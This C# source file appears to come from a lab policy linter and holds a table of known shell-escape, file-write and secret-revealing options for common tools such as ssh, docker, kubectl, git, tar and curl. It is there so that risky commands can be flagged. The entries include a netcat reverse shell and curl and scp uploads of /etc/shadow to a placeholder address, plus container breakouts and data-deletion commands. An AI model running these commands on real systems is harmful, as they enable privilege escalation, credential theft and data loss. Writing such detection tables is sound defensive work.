namespace LabGovernance.Policy.Linting;

/// <summary>
/// Ways out of well-known programs, after the public lists of such. Each line: what it comes to (S starts another program,
/// W writes, deletes or sends files, R prints secrets), how a command begins, what opens the way (^: only right behind the
/// beginning), and a rule without it (@: the rule without its *).
/// Whether a way is open the gate is asked; this is only where to knock.
/// </summary>
internal static class EscapeTable
{
    public static IReadOnlyList<Escape> All { get; } = Read(
    [
        "S|ssh|-o ProxyCommand=id|@ COMMAND",
        "S|scp|-S /tmp/x|",
        "W|scp|/etc/shadow root@192.0.2.66:/tmp/x|",
        "S|sftp|-S /tmp/x|",
        "S|rsync|-e /tmp/x|",
        "W|rsync|--delete|",
        "W|journalctl|--vacuum-time=1s|journalctl --no-pager -u UNIT",
        "W|journalctl|--cursor-file=/etc/x|journalctl --no-pager -u UNIT",
        "S|systemctl|-H root@192.0.2.66|@ UNIT",
        "S|systemctl edit|x|",
        "S|systemctl link|/tmp/x.service|",
        "R|docker inspect|--format {{json .Config.Env}}|docker inspect --format {{.State.Status}} *",
        "R|podman inspect|--format {{json .Config.Env}}|podman inspect --format {{.State.Status}} *",
        "S|docker run|-v /:/host alpine sh|",
        "S|docker run|--privileged x|",
        "S|docker exec|x sh|",
        "S|docker compose|exec x sh|docker compose ps *",
        "S|docker compose|^-f /tmp/x up|docker compose ps *",
        "S|docker build|.|",
        "S|docker|^-H tcp://192.0.2.66 ps|docker ps *",
        "W|docker cp|x:/etc/shadow /tmp/x|",
        "W|docker save|-o /etc/x x|",
        "R|docker exec|x env|",
        "S|podman run|-v /:/host alpine sh|",
        "S|kubectl exec|x -- sh|",
        "S|kubectl|--kubeconfig=/tmp/x get pods|kubectl get *",
        "S|kubectl apply|-f /tmp/x|",
        "R|kubectl get|secrets -o yaml|kubectl get pods *",
        "S|pct exec|105 -- sh|",
        "S|pct enter|105|",
        "S|qm guest exec|105 -- sh|",
        "S|qm monitor|105|",
        "S|pvesh create|/nodes/x/execute -commands x|pvesh get *",
        "S|git|^-c core.pager=id log|git log *",
        "S|git|clone --upload-pack=id x|git log *",
        "W|git|diff --output=/etc/x|git log *",
        "S|find|-exec id ;|",
        "W|find|-delete|",
        "W|find|-fprint /etc/x|",
        "S|tar|--to-command=id -xf x|",
        "S|tar|-I id -xf x|",
        "W|tar|-xf x -C /etc|",
        "S|awk|BEGIN{system(\"id\")}|",
        "S|sed|-n 1e|",
        "W|sed|-i s/a/b/ /etc/x|",
        "S|xargs|id|",
        "S|env|id|",
        "S|sudo|id|",
        "S|su|-c id|",
        "S|nice|id|",
        "S|nohup|id|",
        "S|timeout|9 id|",
        "S|watch|id|",
        "S|time|id|",
        "S|setsid|id|",
        "S|stdbuf|-o0 id|",
        "S|busybox|sh|",
        "S|chroot|/ id|",
        "S|systemd-run|id|",
        "S|sh|-c id|",
        "S|bash|-c id|",
        "S|zsh|-c id|",
        "S|dash|-c id|",
        "S|python|-c pass|",
        "S|python3|-c pass|",
        "S|perl|-e 1|",
        "S|ruby|-e 1|",
        "S|node|-e 1|",
        "S|php|-r 1;|",
        "S|lua|-e x|",
        "S|vi|-c !id|",
        "S|vim|-c !id|",
        "S|less|/tmp/x|",
        "S|more|/tmp/x|",
        "S|man|-P id x|",
        "S|ed|/etc/x|",
        "S|nano|-s id|",
        "S|tcpdump|-z id -w /tmp/x|tcpdump -n -c 100 -i IFACE",
        "W|tcpdump|-w /etc/x|tcpdump -n -c 100 -i IFACE",
        "S|zip|x -T -TT id|",
        "S|nmap|--script=/tmp/x|",
        "W|nmap|-oN /etc/x|",
        "S|socat|- EXEC:id|",
        "S|nc|-e /bin/sh 192.0.2.66 9|",
        "S|gdb|-ex shell|",
        "S|strace|id|",
        "S|make|SHELL=/tmp/x|",
        "S|npm|exec x|",
        "S|npx|x|",
        "S|pip|install x|",
        "S|apt|-o APT::Update::Pre-Invoke::=id update|apt list *",
        "S|apt-get|-o APT::Update::Pre-Invoke::=id update|",
        "S|ansible|all -m shell -a id|",
        "S|ansible-playbook|/tmp/x|",
        "S|terraform|apply -auto-approve|terraform plan",
        "S|psql|-c \\! id|",
        "S|mysql|-e \\! id|",
        "S|sqlite3|x .shell id|",
        "W|sqlite3|x .output /etc/x|",
        "S|redis-cli|eval x 0|",
        "S|ip|netns exec x id|ip addr *",
        "S|crontab|/tmp/x|crontab -l",
        "S|at|-f /tmp/x now|atq",
        "S|script|-c id|",
        "S|flock|/tmp/x id|",
        "S|openssl|req -engine /tmp/x|",
        "W|openssl|enc -in /etc/x -out /etc/y|",
        "W|curl|-o /etc/x http://192.0.2.66/|curl -fsS http://HOST/health",
        "W|curl|-T /etc/shadow http://192.0.2.66/|curl -fsS http://HOST/health",
        "W|wget|-O /etc/x http://192.0.2.66/|",
        "W|sort|-o /etc/x y|",
        "S|sort|--compress-program=id x|",
        "W|tee|/etc/x|",
        "W|cp|x /etc/x|",
        "W|mv|x /etc/x|",
        "W|install|x /etc/x|",
        "W|ln|-sf x /etc/x|",
        "W|dd|if=x of=/etc/x|",
        "W|truncate|-s0 /etc/x|",
        "W|rm|-r /srv/x|",
        "W|chmod|777 /etc/x|",
        "W|unzip|x -d /etc|",
        "W|dmesg|-C|dmesg --nopager",
        "R|cat|/etc/shadow|cat /srv/lab/*",
        "R|ps|auxe|ps aux",
        "S|ha|addons install x|ha core check",
    ]);

    private static Escape[] Read(string[] lines) => [.. lines.Select(Read)];

    private static Escape Read(string line)
    {
        var parts = line.Split('|');
        var kind = parts[0] switch { "S" => EscapeKind.Spawns, "W" => EscapeKind.Writes, _ => EscapeKind.Reveals };
        var close = parts[2].StartsWith('^');
        var tail = Tail(parts[2].TrimStart('^'));
        var anywhere = !close && (tail[0][0] is '-' or '/' || (kind == EscapeKind.Writes && !parts[1].Contains(' ', StringComparison.Ordinal)));
        return new Escape(kind, parts[1].Split(' '), tail, parts[3].Length > 0 ? parts[3] : "@ ARGUMENT", anywhere);
    }

    /// <summary>A template of Go and a statement of a client are one word each.</summary>
    private static string[] Tail(string text)
    {
        var at = text.IndexOfAny(['{', '\\', '!']);
        return at <= 0 || text.StartsWith("BEGIN", StringComparison.Ordinal) ? text.StartsWith("BEGIN", StringComparison.Ordinal) ? [text] : text.Split(' ') : [.. text[..at].TrimEnd().Split(' '), text[at..]];
    }
}
